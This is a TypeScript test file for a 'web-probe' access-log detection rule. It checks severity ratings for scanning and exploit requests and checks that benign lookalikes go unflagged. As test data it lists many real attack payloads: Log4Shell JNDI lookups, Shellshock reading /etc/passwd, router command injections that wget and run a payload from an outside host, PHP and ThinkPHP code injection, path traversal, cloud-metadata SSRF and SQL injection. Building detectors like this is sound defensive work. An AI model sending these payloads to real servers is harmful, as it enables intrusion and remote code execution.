/** One request a source: what web-probe says to it, and how bad it calls it by the server's answer. */
import { describe, expect, test } from 'vitest'
import { RULES } from '../../../src/rules/index.ts'
import { accessLine, type LineOptions } from '../../../src/rules/support/web.ts'
import { analyzeLines } from '../../support/analyze-lines.ts'

const PROBE = RULES.filter(rule => rule.id === 'web-probe')
/** A site whose home page is known, so that an answer can be told from it. */
const HOME = accessLine('/', { source: '192.0.2.9', status: 200, size: 5120 })

function severities(request: string, options: LineOptions = {}): string[] {
  return analyzeLines([HOME, accessLine(request, { second: 9, ...options })], { rules: PROBE }).map(
    finding => finding.severity,
  )
}

describe('tells', () => {
  test.each<[request: string, severity: string, options?: LineOptions]>([
    ['/.env', 'high', { status: 200, size: 412 }],
    ['/.env', 'low', { status: 200, size: 5120 }],
    ['/.env', 'low', { status: 301, size: 178 }],
    ['/.git/config', 'low', { status: 403 }],
    ['POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'high', { status: 200, size: 32 }],
    ['/p?id=1%27+and+sleep(5)--+-', 'medium', { status: 500 }],
    ['/', 'medium', { status: 200, referrer: '${jndi:dns://198.51.100.9/a}' }],
    ['/', 'medium', { status: 200, agent: '${${env:X:-j}ndi${env:X:-:}ldap://198.51.100.9/a}' }],
    ['/cgi-bin/status', 'low', { agent: "() { :;}; /bin/bash -c 'cat /etc/passwd'" }],
    ['/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 'low', { status: 400 }],
    ['POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh', 'low'],
    ['/cgi-bin/luci/;stok=/locale?form=country&country=$(id>`wget+http://198.51.100.9/a`)', 'low'],
    ['/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.9/m+-O+/tmp/n;sh+n', 'low'],
    ['/?lang=../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=1?>+/tmp/x.php', 'low'],
    ['POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', 'low'],
    ['/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5', 'low'],
    ['/?f=..%252f..%252f..%252fetc%252fpasswd', 'low'],
    ['/?f=PHP://FILTER/convert.base64-encode/resource=a', 'low'],
    ['/$%7Bjndi:ldap://198.51.100.9/a%7D', 'low'],
    ['/?u=http%3A%2F%2F[::ffff:169.254.169.254]/latest', 'low'],
    ['GET http://169.254.169.254/latest/meta-data/ HTTP/1.1', 'low'],
    ['/?n=%7B%7Brequest.application.__globals__%7D%7D', 'low'],
    ['/?d=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ', 'low'],
    ['/p?id=1/**/union/**/select/**/1,2', 'low'],
    ['/p?id=1%27)+or+(%27a%27=%27a', 'low'],
    ['/%2e%65%6e%76', 'low'],
    ['/.env%20', 'low'],
    ['/.env;.js', 'low'],
    ['/wp-admin/js/../../.env', 'low'],
    ['/.git%2fconfig', 'low'],
    ['/+CSCOE+/logon.html', 'low'],
    ['/HNAP1', 'low'],
    ['/wp-admin/setup-config.php', 'info'],
    ['/api/actuator/env', 'info'],
  ])('%s: %s', (request, severity, options) => {
    expect(severities(request, options)).toEqual([severity])
  })
})

describe('says nothing to', () => {
  test.each<[request: string, options?: LineOptions]>([
    ['/wp-admin/admin-ajax.php?action=x', { status: 200 }],
    ['/?tags=dog|cat', { status: 200 }],
    ['/a;id/3', { status: 200 }],
    ['/shop/linear-actuator-12v', { status: 200 }],
    ['/static/app.envelope.js', { status: 200 }],
    ['/.environment'],
    ['/.github/workflows/ci.yml'],
    ['/priorityqueue', { status: 200 }],
    ['/blog/union-select-committee', { status: 200 }],
    ['/article?q=sql+injection+tutorial', { status: 200 }],
    ['/products?color=%24%7Bred%7D', { status: 200 }],
    ['/server-status-page-guide', { status: 200 }],
    ['/cgi-binary/notes', { status: 200 }],
    ['/?url=https://a.example/?x=1;y=2', { status: 200 }],
    ['/search?q=cats+%26%26+dogs', { status: 200 }],
    ['/search?q=1%20or%202%20bedrooms', { status: 200 }],
    ['/search?q=O%27Reilly%20%26%20Sons', { status: 200 }],
    ['/login?next=%2Fa%3Fb%3D%252Fc', { status: 200 }],
    ['/.well-known/acme-challenge/abc.def'],
    ['/robots.txt'],
    ['/files?path=../images/x.png', { status: 200 }],
    ['POST /graphql?query=%7Buser(id:1)%7Bname%7D%7D', { status: 200 }],
    ['/api/items?filter=%7B%22and%22%3A%5B%7B%22a%22%3A1%7D%5D%7D', { status: 200 }],
    ['/tags/c%2B%2B%3Bc%23', { status: 200 }],
    ['/', { status: 200, referrer: 'https://www.example/search?q=what+is+/etc/passwd' }],
    ['/', { status: 200, referrer: "https://forum.example/t/don't-panic?q=a;b" }],
    ['/', { status: 200, agent: "Dalvik/2.1.0 (Linux; U; Android 9; O'Neill Build/X)" }],
    ['/', { status: 200, agent: 'Mozilla/5.0 (compatible; x; +https://bot.example/?a=b&c={d})' }],
  ])('%s', (request, options) => {
    expect(severities(request, options)).toEqual([])
  })
})
